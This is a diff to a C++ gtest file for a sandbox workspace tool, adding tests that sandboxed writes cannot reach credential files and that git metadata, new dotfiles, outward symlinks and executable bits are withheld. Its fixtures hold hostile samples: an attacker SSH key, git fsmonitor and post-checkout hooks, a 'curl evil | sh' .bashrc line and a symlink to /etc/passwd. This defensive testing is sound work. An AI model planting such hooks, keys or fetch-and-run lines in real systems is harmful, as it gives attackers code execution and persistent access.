@@ -4,6 +4,7 @@
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
+#include <isb/core/config.hpp>
 #include <isb/core/workspace_changes.hpp>
 #include <isb/core/workspace_service.hpp>
 
@@ -249,7 +250,8 @@ TEST_F(ChangesTest, ApplyGivesFilesToTheTargetsOwnerWithoutSetuidBits) {
   const std::string target = tmp / "target";
   ASSERT_TRUE(copy_tree(src.source, target).ok());
   ASSERT_EQ(::chown(target.c_str(), 4321, 4321), 0);
-  ASSERT_TRUE(apply_changes_to(src, target).ok());
+  // Named in include: the new executable bit travels (setuid never does).
+  ASSERT_TRUE(apply_changes_to(src, target, {"new/n.txt"}).ok());
   struct stat st {};
   ASSERT_EQ(::lstat((target + "/new/n.txt").c_str(), &st), 0);
   EXPECT_EQ(st.st_uid, 4321u);
@@ -276,6 +278,135 @@ TEST_F(ChangesTest, ApplyReplacesSymlinksInTargetInsteadOfWritingThrough) {
   EXPECT_FALSE(fs::is_symlink(target + "/a.txt"));
   EXPECT_EQ(slurp(target + "/a.txt"), "one\nTWO\nthree\n");
   EXPECT_EQ(slurp(tmp / "victim.txt"), "VICTIM");
+}
+
+
+// Issue 13, findings 2 and 5: what sandboxed code writes into a workspace
+// cannot reach a credential, and VCS metadata, new top-level dotfiles,
+// symlinks leading out and new executable bits wait for the client to name
+// them.
+TEST_F(ChangesTest, ApplyNeverWritesSecretsAndWithholdsVcsDotfilesOutwardLinksAndExecBits) {
+  src.secret_paths = SandboxConfig{}.secret_paths;
+  const std::string target = tmp / "target";
+  ASSERT_TRUE(copy_tree(src.source, target).ok());
+  put(src.workspace + "/a.txt", "changed\n");
+  put(src.workspace + "/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker");
+  put(src.workspace + "/.env.local", "TOKEN=x");
+  put(src.workspace + "/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n");
+  put(src.workspace + "/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/pwned\n");
+  ::chmod((src.workspace + "/.git/hooks/post-checkout").c_str(), 0755);
+  put(src.workspace + "/.bashrc", "curl evil | sh\n");
+  put(src.workspace + "/run.sh", "#!/bin/sh\necho hi\n");
+  ::chmod((src.workspace + "/run.sh").c_str(), 0755);
+  fs::create_symlink("/etc/passwd", src.workspace + "/escape");
+  fs::create_symlink("../../outside", src.workspace + "/keep/up");
+  auto r = apply_changes_to(src, target);
+  ASSERT_TRUE(r.ok()) << r.error().message;
+  std::vector<std::string> written;
+  for (const auto& v : r->at("written").as_array()) written.emplace_back(v.as_string());
+  EXPECT_THAT(written, ElementsAre("a.txt", "run.sh"));
+  std::map<std::string, std::string> withheld;
+  for (const auto& v : r->at("withheld").as_array()) {
+    withheld[std::string(v.at("path").as_string()) + " " + std::string(v.at("change").as_string())] =
+        std::string(v.at("reason").as_string());
+  }
+  EXPECT_THAT(withheld, UnorderedElementsAre(Pair(".ssh/authorized_keys added", HasSubstr("secret")),
+                                             Pair(".env.local added", HasSubstr("secret")),
+                                             Pair(".git/config added", HasSubstr("version-control")),
+                                             Pair(".git/hooks/post-checkout added", HasSubstr("version-control")),
+                                             Pair(".bashrc added", HasSubstr("new dotfile")),
+                                             Pair("escape added", HasSubstr("outside the target")),
+                                             Pair("keep/up added", HasSubstr("outside the target")),
+                                             Pair("run.sh executable bit", HasSubstr("executable bit"))));
+  EXPECT_FALSE(fs::exists(target + "/.ssh"));
+  EXPECT_FALSE(fs::exists(target + "/.git"));
+  EXPECT_FALSE(fs::exists(target + "/.bashrc"));
+  EXPECT_FALSE(fs::is_symlink(target + "/escape"));
+  struct stat st {};
+  ASSERT_EQ(::stat((target + "/run.sh").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 0777, 0644u);
+
+  // Named in include, the withheld kinds go through; secrets never do.
+  auto again = apply_changes_to(src, target, {".git", ".bashrc", "run.sh", "escape", ".ssh", ".env.local"});
+  ASSERT_TRUE(again.ok()) << again.error().message;
+  EXPECT_EQ(slurp(target + "/.git/hooks/post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n");
+  EXPECT_TRUE(fs::is_symlink(target + "/escape"));
+  ASSERT_EQ(::stat((target + "/run.sh").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 0777, 0755u);
+  EXPECT_FALSE(fs::exists(target + "/.ssh"));
+  EXPECT_FALSE(fs::exists(target + "/.env.local"));
+}
+
+// Deleting a secret in the workspace never deletes it in the target.
+TEST_F(ChangesTest, ApplyNeverDeletesSecretsInTheTarget) {
+  src.secret_paths = {"secret.txt"};
+  put(src.source + "/secret.txt", "mine");
+  const std::string target = tmp / "target";
+  ASSERT_TRUE(copy_tree(src.source, target, {}, {}).ok());  // target has it
+  fs::remove(src.workspace + "/b.txt");
+  put(src.manifest, "");  // re-record with secret.txt present in the workspace, then delete it
+  put(src.workspace + "/secret.txt", "mine");
+  ASSERT_TRUE(record_manifest(src.workspace, src.manifest).ok());
+  fs::remove(src.workspace + "/secret.txt");
+  auto r = apply_changes_to(src, target);
+  ASSERT_TRUE(r.ok()) << r.error().message;
+  EXPECT_EQ(slurp(target + "/secret.txt"), "mine");
+  ASSERT_EQ(r->at("withheld").as_array().size(), 1u);
+  EXPECT_EQ(r->at("withheld").as_array()[0].at("change"), "deletion");
+}
+
+// Issue 13, finding 4: file-sized work is streamed; a sparse file keeps its
+// holes when applied and becomes a sparse entry when exported.
+TEST_F(ChangesTest, SparseFilesAreAppliedWithTheirHolesAndExportedAsSparseEntries) {
+  constexpr off_t kSize = off_t{256} << 20;
+  {
+    std::ofstream(src.workspace + "/sparse.bin");
+    ASSERT_EQ(::truncate((src.workspace + "/sparse.bin").c_str(), kSize), 0);
+    std::fstream f(src.workspace + "/sparse.bin", std::ios::in | std::ios::out | std::ios::binary);
+    f.seekp(kSize / 2);
+    f << "MIDDLE";
+  }
+  const std::string target = tmp / "target";
+  ASSERT_TRUE(copy_tree(src.source, target).ok());
+  auto r = apply_changes_to(src, target);
+  ASSERT_TRUE(r.ok()) << r.error().message;
+  struct stat st {};
+  ASSERT_EQ(::stat((target + "/sparse.bin").c_str(), &st), 0);
+  EXPECT_EQ(st.st_size, kSize);
+  EXPECT_LT(st.st_blocks * 512, 1 << 20) << "the holes were filled";
+  std::ifstream in(target + "/sparse.bin", std::ios::binary);
+  in.seekg(kSize / 2);
+  std::string mid(6, '\0');
+  in.read(mid.data(), 6);
+  EXPECT_EQ(mid, "MIDDLE");
+
+  auto x = export_archive(src, "tar.gz", true, tmp / "exports/sparse.tar.gz");
+  ASSERT_TRUE(x.ok()) << x.error().message;
+  EXPECT_LT(x->at("size_bytes").as_int64(), 1 << 20);
+  struct archive* a = archive_read_new();
+  archive_read_support_format_all(a);
+  archive_read_support_filter_all(a);
+  ASSERT_EQ(archive_read_open_filename(a, (tmp / "exports/sparse.tar.gz").c_str(), 10240), ARCHIVE_OK);
+  struct archive_entry* e;
+  bool seen = false;
+  while (archive_read_next_header(a, &e) == ARCHIVE_OK) {
+    if (std::string(archive_entry_pathname(e)) != "sparse.bin") continue;
+    seen = true;
+    EXPECT_EQ(archive_entry_size(e), kSize);
+    EXPECT_GT(archive_entry_sparse_count(e), 0);
+    const void* buf;
+    size_t len;
+    la_int64_t off;
+    std::string found;
+    while (archive_read_data_block(a, &buf, &len, &off) == ARCHIVE_OK) {
+      if (len && off <= kSize / 2 && kSize / 2 < off + static_cast<la_int64_t>(len)) {
+        found.assign(static_cast<const char*>(buf) + (kSize / 2 - off), 6);
+      }
+    }
+    EXPECT_EQ(found, "MIDDLE");
+  }
+  archive_read_free(a);
+  EXPECT_TRUE(seen);
 }
 
 }  // namespace
